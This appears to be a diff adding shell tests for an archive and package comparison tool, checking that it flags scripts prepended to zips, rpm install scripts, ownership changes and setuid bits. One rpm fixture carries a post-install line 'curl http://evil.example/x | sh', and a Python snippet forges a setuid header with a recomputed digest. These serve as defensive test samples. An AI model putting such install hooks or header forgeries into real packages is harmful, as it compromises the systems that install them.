@@ -69,6 +69,10 @@ is "$(rules)" "archive signature " "named"
 (printf '#!/bin/sh\necho good\n'; cat a.zip) >front-a.zip
 (printf '#!/bin/sh\necho evil\n'; cat a.zip) >front-b.zip
 vote 1 "another script in front of the same zip" front-a.zip front-b.zip
+(printf '#!/bin/sh\necho good\n'; cat b.zip) >front-c.zip
+vote 0 "the same script in front of two zips" front-a.zip front-c.zip
+run 1 "diff sees it, too" "$FIREBREAK" diff --fail-on low front-a.zip front-b.zip
+like "$out" "other bytes in front of the archive" "and says what"
 if command -v cpio >/dev/null; then
 	for i in a b; do
 		mkdir hard-$i
@@ -79,6 +83,55 @@ if command -v cpio >/dev/null; then
 	vote 1 "a cpio whose last hard link brings the content" hard-a.cpio hard-b.cpio
 	is "$(jq -r '.pairs[0].differences[]|select(.rule=="content").a' <<<"$out")" "hard-a.cpio!y" \
 		"named"
+fi
+
+# --- rpm: what its header runs ---
+# rpm NAME LINES…: a package with one file, and these lines in its spec.
+rpm() {
+	local name=$1
+	shift
+	printf '%s\n' 'Name: foo' 'Version: 1' 'Release: 1' 'Summary: x' 'License: x' 'BuildArch: noarch' \
+		%description x "$@" >$name.spec
+	rpmbuild -bb --quiet --define "_topdir $PWD/rpm" --define "_rpmfilename $name.rpm" $name.spec \
+		>rpm.log 2>&1
+	mv rpm/RPMS/$name.rpm .
+}
+if command -v rpmbuild >/dev/null; then
+	body=('%install' 'mkdir -p %{buildroot}/opt; echo x >%{buildroot}/opt/x' %files)
+	rpm plain "${body[@]}" /opt/x
+	rpm again "${body[@]}" /opt/x
+	rpm post '%post' 'curl http://evil.example/x | sh' "${body[@]}" /opt/x
+	rpm owner "${body[@]}" '%attr(-,daemon,root) /opt/x'
+	rpm empty '%post -p /sbin/ldconfig' '%files'
+	vote 0 "two builds of an rpm" plain.rpm again.rpm
+	vote 1 "an rpm with a script" plain.rpm post.rpm
+	is "$(jq -r '.pairs[0].differences[]|select(.rule=="extra").b' <<<"$out")" \
+		"post.rpm!!scripts/post" "named"
+	vote 1 "an rpm whose file belongs to another" plain.rpm owner.rpm
+	run 1 "diff of the rpm with a script" "$FIREBREAK" diff --json plain.rpm post.rpm
+	is "$(jq -r '.findings[0]|"\(.code) \(.level)"' <<<"$out")" "script.maintainer.command high" \
+		"the script comes first"
+	run 2 "an rpm without files" "$FIREBREAK" inspect --json empty.rpm
+	is "$(jq -r '.artifacts[0].components[1].path' <<<"$out")" "empty.rpm!!scripts/post" \
+		"has its script, too"
+	# rpm takes rights from the header, cpio from the payload
+	python3 - plain.rpm mode.rpm <<-'PY'
+		import sys, struct, hashlib
+		b = bytearray(open(sys.argv[1], 'rb').read())
+		def header(at):
+		    n, size = struct.unpack('>II', b[at + 8:at + 16])
+		    tags = [struct.unpack('>IIII', b[at + 16 + 16 * i:at + 32 + 16 * i]) for i in range(n)]
+		    return at + 16 + 16 * n, at + 16 + 16 * n + size, {t[0]: t for t in tags}
+		sig, end, s = header(96)
+		at = (end + 7) // 8 * 8
+		store, end, h = header(at)
+		struct.pack_into('>H', b, store + h[1030][2], 0o104755)
+		digest = hashlib.sha256(b[at:end]).hexdigest().encode()
+		b[sig + s[273][2]:sig + s[273][2] + 64] = digest
+		open(sys.argv[2], 'wb').write(b)
+	PY
+	run 1 "an rpm whose header makes a file setuid" "$FIREBREAK" inspect mode.rpm
+	like "$out" "other rights" "is refused"
 fi
 
 # --- three and more ---
